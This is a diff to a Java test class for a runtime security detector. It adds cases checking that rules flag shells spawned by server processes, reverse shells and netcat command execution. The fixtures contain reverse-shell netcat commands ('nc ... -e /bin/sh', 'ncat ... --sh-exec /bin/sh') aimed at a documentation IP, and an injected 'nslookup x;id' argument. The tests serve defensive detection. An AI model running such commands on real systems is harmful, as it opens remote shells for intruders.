@@ -131,13 +131,27 @@ class VigilRulesTest {
                 .containsExactly("Shell spawned by a server process");
         assertThat(fired(Events.exec("sh", List.of("sh", "-c", "id"), "bash"))).isEmpty();
         assertThat(fired(Events.exec("python3", List.of("python3"), "nginx"))).isEmpty();
+        assertThat(fired(Events.exec("sh", List.of("sh", "-c", "nslookup x;id"), "diag", "httpd")))
+                .as("through a CGI script").containsExactly("Shell spawned by a server process");
+        assertThat(fired(Events.exec("sh", List.of("sh", "-c", "id"), "diag", "bash"))).isEmpty();
+        assertThat(fired(Events.exec("exe", List.of("sh", "-c", "nslookup x;id"), "diag", "httpd")))
+                .as("busybox sh exec'd as /proc/self/exe, not yet renamed").containsExactly("Shell spawned by a server process");
     }
 
     @Test
     void reverseShell() {
-        Events.Builder dup = Events.exec("bash", List.of("bash", "-i"), "sh").event("dup2", 1).args("oldfd=3 newfd=0")
+        Events.Builder dup = Events.exec("bash", List.of("bash", "-i"), "sh").event("dup2", 1)
+                .args("oldfd=3 newfd=0 socket=connected")
                 .fd(0, '4', "10.244.1.5:41000->203.0.113.7:4444", "tcp", "10.244.1.5", 41000, "203.0.113.7", 4444, null);
         assertThat(fired(dup)).containsExactly("Reverse shell");
+        Events.Builder cgi = Events.exec("busybox", List.of("busybox", "httpd", "-f"), "busybox").event("dup2", 1)
+                .args("oldfd=3 newfd=0 socket=accepted")
+                .fd(0, '4', "10.244.1.40:56232->10.96.10.10:80", "tcp", "10.244.1.40", 56232, "10.96.10.10", 80, null);
+        assertThat(fired(cgi)).as("a server handing an accepted client to a CGI program").isEmpty();
+        Events.Builder ping = Events.exec("ping", List.of("ping", "-c", "1", "10.244.1.7"), "xargs").event("dup2", 1)
+                .args("oldfd=3 newfd=0 socket=connected")
+                .fd(0, '4', "10.244.1.10:0->10.244.1.7:0", null, "10.244.1.10", 0, "10.244.1.7", 0, null);
+        assertThat(fired(ping)).as("busybox ping's ICMP socket on fd 0").isEmpty();
         Events.Builder unix = Events.exec("bash", List.of("bash"), "sh").event("dup2", 1).args("oldfd=3 newfd=1")
                 .fd(1, 'u', "/run/app.sock", null, null, -1, null, -1, null);
         assertThat(fired(unix)).isEmpty();
@@ -188,6 +202,8 @@ class VigilRulesTest {
         assertThat(fired(exec("ncat", "203.0.113.7", "4444", "--sh-exec", "/bin/sh"))).containsExactly("Netcat with command execution");
         assertThat(fired(exec("nc", "-z", "db", "5432"))).isEmpty();
         assertThat(fired(exec("nc", "-lvnp", "8080"))).isEmpty();
+        assertThat(fired(Events.exec("exe", List.of("nc", "203.0.113.7", "4444", "-e", "/bin/sh"), "sh")))
+                .as("run from busybox sh: comm 'exe', argv[0] 'nc'").containsExactly("Netcat with command execution");
     }
 
     @Test
